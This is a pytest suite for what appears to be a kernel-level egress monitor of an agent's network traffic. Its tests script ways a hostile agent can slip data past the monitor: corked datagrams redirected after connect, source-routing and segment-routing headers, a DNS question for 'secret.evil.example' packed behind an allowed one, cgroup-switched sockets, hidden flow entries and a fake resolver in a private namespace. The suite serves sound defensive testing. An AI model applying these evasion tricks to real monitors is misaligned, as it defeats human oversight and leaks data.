# SPDX-License-Identifier: Apache-2.0
"""What a hostile agent can do to a socket so that the kernel side looks at the wrong place, at the
wrong time, or has no memory to remember: the datagram is still told, with where it went."""
import os
import subprocess

import pytest

import faults
from attacker import outsider
from netlab import AGENT4, API, API6, OTHER, OTHER6
from policies import WEATHER_ONLY, policy
from test_tree import cgroup2_mount

PYTHON = "/usr/bin/python3"
UDP = "import socket, struct, os\nu = socket.socket(socket.AF_INET{six}, socket.SOCK_DGRAM)\n"
API_ONLY = policy(f"{API} 7005 UDP", f"{API6} 7005 UDP")


def run_udp(start, rules, script, six=False, **options):
    return start.run(rules, PYTHON, "-c", UDP.format(six="6" if six else "") + script, **options)


def arrived(net, ip, since):
    """Waits until a datagram for this address has come after `since` things were said."""
    net.said.lines.wait(lambda _: any(e["event"] == "datagram" and e["ip"] == ip
                                      for e in net.said.all()[since:]))


def told(watch, kind="flow-open"):
    return [(r["remote"]["ip"], r["remote"]["port"], r["verdict"]) for r in watch.flows(kind)]


def went(watch):
    """Where packets went instead of where they were meant to."""
    return [(r["named"]["ip"], r["remote"]["ip"], r["remote"]["port"], r["way"], r["verdict"])
            for r in watch.of("wire")]


def test_control_data_leaves_no_memory_for_the_socket(start, net):
    """A large msg_control is charged to the socket (net.core.optmem_max) while the hook runs, so
    that it can store no more there."""
    since = len(net.said.all())
    watch = run_udp(start, WEATHER_ONLY,
                    "room = int(open('/proc/sys/net/core/optmem_max').read())\n"
                    "while True:\n"
                    "    room -= 50\n"
                    f"    try: u.sendmsg([b'secret'], [(77, 1, bytes(room))], 0, ('{OTHER}', 7005))\n"
                    "    except OSError: continue\n"
                    "    break\n")
    assert watch.wait() == 0, watch.text()
    arrived(net, OTHER, since)
    assert set(told(watch)) == {(OTHER, 7005, "unexpected")}
    assert watch.flows()[-1]["uncounted"] is True
    assert len(watch.flow_alerts()) == 1


CORKED = """
u.connect(('{bad}', 7005))
u.send(b'secret', socket.MSG_MORE)
{between}
u.send(b'.')
"""


@pytest.mark.parametrize("between", [
    f"u.connect(('{API6}', 7005))",
    f"for i in range(9): u.connect(('{API6}', 7005))",
    "own = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); own.bind(('::1', 0))\n"
    "u.connect(own.getsockname())"], ids=["expected", "many times", "own socket"])
def test_connected_elsewhere_while_a_datagram_is_held_back(start, net, between):
    """The kernel keeps the destination of a corked datagram; where the socket is connected to when
    it leaves is not where it goes."""
    since = len(net.said.all())
    watch = run_udp(start, API_ONLY, CORKED.format(bad=OTHER6, between=between), six=True)
    assert watch.wait() == 0, watch.text()
    arrived(net, OTHER6, since)
    assert told(watch) == [(OTHER6, 7005, "unexpected")]
    assert len(watch.flow_alerts()) == 1


def test_source_route_names_the_first_hop(start):
    """A loose source route needs no privilege; the datagram goes to its first hop."""
    watch = run_udp(start, API_ONLY,
                    f"u.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([131, 7, 4]) + "
                    f"socket.inet_aton('{OTHER}') + bytes(1))\n"
                    f"u.connect(('{API}', 7005)); u.send(b'secret')\n")
    assert watch.wait() == 0, watch.text()
    assert told(watch) == [(API, 7005, "expected")]
    assert went(watch) == [(API, OTHER, 7005, "routed", "unexpected")]


def test_extension_headers_hide_no_datagram(start, net):
    since = len(net.said.all())
    watch = run_udp(start, WEATHER_ONLY,
                    "u.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_DSTOPTS, b'\\0\\0\\1\\4\\0\\0\\0\\0')\n"
                    "u.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_HOPOPTS, b'\\0\\0\\1\\4\\0\\0\\0\\0')\n"
                    f"u.connect(('{OTHER6}', 7005)); u.send(b'secret')\n", six=True)
    assert watch.wait() == 0, watch.text()
    arrived(net, OTHER6, since)
    assert told(watch) == [(OTHER6, 7005, "unexpected")]
    closed = watch.flows("flow-close")[0]
    assert (closed["tx_packets"], closed["tx_bytes"]) == (1, 6)


def test_segment_routing_header_names_the_first_hop(start):
    """Needs no privilege; the datagram goes to the first segment, which is on the wire."""
    watch = run_udp(start, API_ONLY,
                    "hop, last = (socket.inet_pton(socket.AF_INET6, a) for a in "
                    f"('{OTHER6}', '{API6}'))\n"
                    "srh = bytes([0, 4, 4, 1, 1, 0, 0, 0]) + bytes(16) + hop\n"
                    "u.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, srh)\n"
                    f"u.connect(('{API6}', 7005)); u.send(b'secret')\n", six=True)
    assert watch.wait() == 0, watch.text()
    assert told(watch) == [(API6, 7005, "expected")]
    assert went(watch) == [(API6, OTHER6, 7005, "routed", "unexpected")]


def test_segments_are_counted_one_by_one(start, net):
    """UDP_SEGMENT: one send, ten datagrams on the wire."""
    watch = run_udp(start, WEATHER_ONLY,
                    "u.setsockopt(socket.IPPROTO_UDP, 103, 100)\n"
                    f"u.sendto(bytes(950), ('{OTHER}', 7005))\n")
    assert watch.wait() == 0, watch.text()
    closed = watch.flows("flow-close")[0]
    assert (closed["tx_packets"], closed["tx_bytes"]) == (10, 950)


QUESTIONS = """
def question(name):
    return (bytes([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) +
            b''.join(bytes([len(p)]) + p for p in name.split(b'.')) + bytes([0, 0, 1, 0, 1]))
a, b = question(b'weather.service.com'), question(b'secret.evil.example')
u.setsockopt(socket.IPPROTO_UDP, 103, len(a))
u.sendto(a + b, ('10.99.0.53', 53))
"""


def test_questions_behind_one_another_in_one_send(start):
    """UDP_SEGMENT to a resolver: each datagram is a question of its own."""
    watch = run_udp(start, WEATHER_ONLY, QUESTIONS)
    assert watch.wait() == 0, watch.text()
    asked = {r["query"] for r in watch.of("dns-query")}
    assert "secret.evil.example" in asked or watch.of("lost")


def test_empty_datagrams_to_a_resolver_are_no_loss(start):
    watch = run_udp(start, WEATHER_ONLY,
                    "for i in range(5): u.sendto(b'', ('10.99.0.53', 53))\n")
    assert watch.wait() == 0, watch.text()
    assert watch.of("lost") == []
    assert [(r["tx_packets"], r["tx_bytes"]) for r in watch.flows("flow-close")] == [(5, 0)]


@pytest.fixture
def away():
    """Two cgroups beside the agent's own; their mount too."""
    mount = cgroup2_mount()
    if not mount:
        pytest.skip("cgroup2 is not mounted here")
    made = [f"{mount}/other-{os.getpid()}-{n}" for n in (1, 2)]
    for folder in made:
        os.mkdir(folder)
    yield mount, *made
    for folder in made:
        os.rmdir(folder)


MOVES = """
import os, socket
def move(to):
    with open(to + '/cgroup.procs', 'w') as procs: procs.write(str(os.getpid()))
"""


def test_socket_made_in_another_cgroup(start, net, away):
    """Packets are seen on the cgroup that the socket was made in, wherever its process is now."""
    mount, made_in, _ = away
    since = len(net.said.all())
    watch = start.run(WEATHER_ONLY, PYTHON, "-c", MOVES +
                      "home = open('/proc/self/cgroup').read().split('0::')[1].strip()\n"
                      f"move('{made_in}')\n"
                      "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                      f"move('{mount}' + home)\n"
                      f"u.connect(('{OTHER}', 7005)); u.send(b'secret')\n")
    assert watch.wait() == 0, watch.text()
    arrived(net, OTHER, since)
    assert told(watch) == [(OTHER, 7005, "unexpected")]
    assert watch.flows()[0]["uncounted"] is True


def test_attach_to_a_socket_made_in_another_cgroup(start, away):
    """A connected UDP socket whose packets no hook sees is told at once; the other one when it
    sends."""
    _, made_in, lives_in = away
    agent = start.agent(PYTHON, "-uc", MOVES +
                        "def connected(port):\n"
                        "    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                        f"    u.connect(('{OTHER}', port)); return u\n"
                        f"move('{made_in}'); a = connected(7005)\n"
                        f"move('{lives_in}'); b = connected(7006); c = connected(7007)\n"
                        "print('ready'); input(); a.send(b'x'); b.send(b'y')\n")
    assert agent.stdout.readline() == b"ready\n"
    watch = start.attach(WEATHER_ONLY, agent.pid)
    first = watch.wait_record(type="flow-open")
    assert (first["remote"]["port"], first["existing"], first["uncounted"]) == (7005, True, True)
    agent.stdin.write(b"\n")
    agent.stdin.flush()
    assert watch.wait() == 0, watch.text()
    assert [port for _, port, _ in told(watch)] == [7005, 7006]


def test_failed_connect_then_listen(start):
    """Connections that a listener accepts never close the flow that its socket once tried."""
    watch = start.run(WEATHER_ONLY, PYTHON, "-c",
                      "import socket\n"
                      "s = socket.socket()\n"
                      "try: s.connect(('255.255.255.255', 7001))\n"
                      "except OSError: pass\n"
                      "s.bind(('127.0.0.1', 0)); s.listen()\n"
                      "for i in range(3):\n"
                      "    c = socket.create_connection(s.getsockname()); a, _ = s.accept()\n"
                      "    a.close(); c.close()\n")
    assert watch.wait() == 0, watch.text()
    ids = [r["id"] for r in watch.flows("flow-close")]
    assert len(ids) == len(set(ids)) == len(watch.flows()) == 1 + 2 * 3
    assert [r["outcome"] for r in watch.flows("flow-close", ip="255.255.255.255")] == ["unreachable"]


@pytest.mark.parametrize("bound, goes_to", [("", "127.0.0.1"), (AGENT4, AGENT4)])
@pytest.mark.parametrize("how", ["sendto", "connect"])
def test_unspecified_destination_is_the_own_address(start, bound, goes_to, how):
    """0.0.0.0 means the socket's own address, and loopback only when it has none (ip(7))."""
    send = ("u.sendto(b'x', ('0.0.0.0', 7777))" if how == "sendto" else
            "u.connect(('0.0.0.0', 7777)); u.send(b'x')")
    watch = run_udp(start, WEATHER_ONLY, f"u.bind(('{bound}', 0))\n{send}\n")
    assert watch.wait() == 0, watch.text()
    assert told(watch) == [(goes_to, 7777, "unexpected")]


def test_more_destinations_than_slots(start):
    """Each is told; what a slot counted is told when it is given away."""
    watch = run_udp(start, WEATHER_ONLY,
                    "for p in range(100):\n"
                    f"    for i in range(3): u.sendto(b'12345', ('{OTHER}', 8000 + p))\n")
    assert watch.wait() == 0, watch.text()
    assert [r["remote"]["port"] for r in watch.flows()] == list(range(8000, 8100))
    closed = watch.flows("flow-close")
    assert len({r["id"] for r in closed}) == 100
    assert {(r["tx_packets"], r["tx_bytes"]) for r in closed} == {(3, 15)}


RACE = """
import threading
good, bad = ('{good}', 7005), ('{bad}', 7005)
def send(to):
    for i in range(2000): u.sendto(b'x' * 10, to)
threads = [threading.Thread(target=send, args=(t,)) for t in (good, bad)]
for t in threads: t.start()
for t in threads: t.join()
"""


def test_two_threads_on_one_socket(start):
    watch = run_udp(start, API_ONLY, RACE.format(good=API, bad=OTHER))
    assert watch.wait() == 0, watch.text()
    assert sorted(told(watch)) == [(API, 7005, "expected"), (OTHER, 7005, "unexpected")]
    assert {(r["tx_packets"], r["tx_bytes"]) for r in watch.flows("flow-close")} == {(2000, 20000)}


STORM = """
import os, socket
server = socket.create_server(('127.0.0.1', 0), backlog=4096)
def child(work):
    pid = os.fork()
    if pid == 0:
        work()
        os._exit(0)
    return pid
def accepts():
    while True: server.accept()[0].close()
def connects():
    for i in range({n}):
        with socket.create_connection(server.getsockname()) as c: c.recv(1)
servers = [child(accepts) for _ in range(4)]
for pid in [child(connects) for _ in range(4)]: os.waitpid(pid, 0)
for pid in servers: os.kill(pid, 9)
"""


def test_every_connection_of_a_storm_has_its_end(start):
    """The kernel runs no tracing program inside itself: some moves to CLOSE are not shown."""
    n = 8000
    watch = start.run(WEATHER_ONLY, PYTHON, "-c", STORM.format(n=n))
    assert watch.wait(60) == 0, watch.text()
    opened = {r["id"] for r in watch.flows()}
    closed = [r["id"] for r in watch.flows("flow-close")]
    lost = sum(r["count"] for r in watch.of("lost"))
    assert len(opened) >= 4 * n - lost and len(closed) == len(set(closed))
    assert len(opened - set(closed)) <= lost
    assert {r["outcome"] for r in watch.flows("flow-close")} == {"connected"}
    assert {r["verdict"] for r in watch.flows()} == {"internal"}, "at both ends"


OPEN = """
import socket
a = socket.create_connection(('{ip}', 7001))
print('open'); input()
socket.create_connection(('{ip}', 7001)).close()
a.close()
"""


def test_an_end_that_no_program_was_shown(start):
    """The hooks do not find the entry of the first socket, as if the kernel had not called them. The
    walk over the entries does, and sees that the socket is gone."""
    watch = start.run(WEATHER_ONLY, PYTHON, "-uc", OPEN.format(ip=OTHER), stdin=subprocess.PIPE)
    hidden = watch.wait_record(type="flow-open")["id"]
    watch.stdout.wait(lambda line: line == "open")
    attacker = outsider(start)
    assert attacker.order(faults.monitor(watch), "hide", int(hidden, 16) >> 16) == "ok"
    watch.process.stdin.write(b"\n")
    watch.process.stdin.close()
    assert watch.wait() == 0, watch.text()
    plain, = {r["id"] for r in watch.flows()} - {hidden}
    ends = {r["id"]: (r["outcome"], r["uncounted"], r["tx_bytes"]) for r in watch.flows("flow-close")}
    assert ends == {hidden: ("connected", True, None), plain: ("connected", False, 0)}


@pytest.mark.parametrize("kind", ["0", "262"], ids=["tcp", "mptcp"])
def test_connect_without_a_route_has_an_end(start, kind):
    watch = start.run(WEATHER_ONLY, PYTHON, "-c",
                      f"import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM, {kind})\n"
                      "try: s.connect(('255.255.255.255', 7001))\n"
                      "except OSError as e: print('failed')\n")
    assert watch.wait() == 0 and watch.stdout.list == ["failed"]
    assert [r["outcome"] for r in watch.flows("flow-close")] == ["unreachable"]
    assert len(watch.flows()) == 1


FAKE = """
import ctypes, os, socket, struct, subprocess
libc = ctypes.CDLL(None)
home = os.open('/proc/self/ns/net', os.O_RDONLY)
assert libc.unshare(0x40000000) == 0
subprocess.run('ip link set lo up; ip addr add 10.99.0.53/32 dev lo', shell=True, check=True)
fake = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); fake.bind(('10.99.0.53', 53))
asks = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); asks.connect(('10.99.0.53', 53))
assert libc.setns(home, 0x40000000) == 0
print('ready'); input()
name = b''.join(bytes([len(p)]) + p for p in b'weather.service.com'.split(b'.')) + bytes(1)
question = name + struct.pack('>HH', 1, 1)
asks.send(struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + question)
_, peer = fake.recvfrom(600)
fake.sendto(struct.pack('>6H', 7, 0x8180, 1, 1, 0, 0) + question + name
            + struct.pack('>HHIH', 1, 1, 60, 4) + socket.inet_aton('{ip}'), peer)
asks.recv(600)
socket.create_connection(('{ip}', 443)).close()
"""


def test_attach_to_sockets_of_a_resolver_in_a_namespace_of_the_agents_own(start):
    """It has the trusted resolver's address there, and was made before the watch began."""
    agent = start.agent(PYTHON, "-uc", FAKE.format(ip=OTHER))
    assert agent.stdout.readline() == b"ready\n"
    watch = start.attach(WEATHER_ONLY, agent.pid)
    watch.wait_record(type="header")
    agent.stdin.write(b"\n")
    agent.stdin.flush()
    assert watch.wait() == 0, watch.text()
    assert told(watch)[-1] == (OTHER, 443, "unexpected")
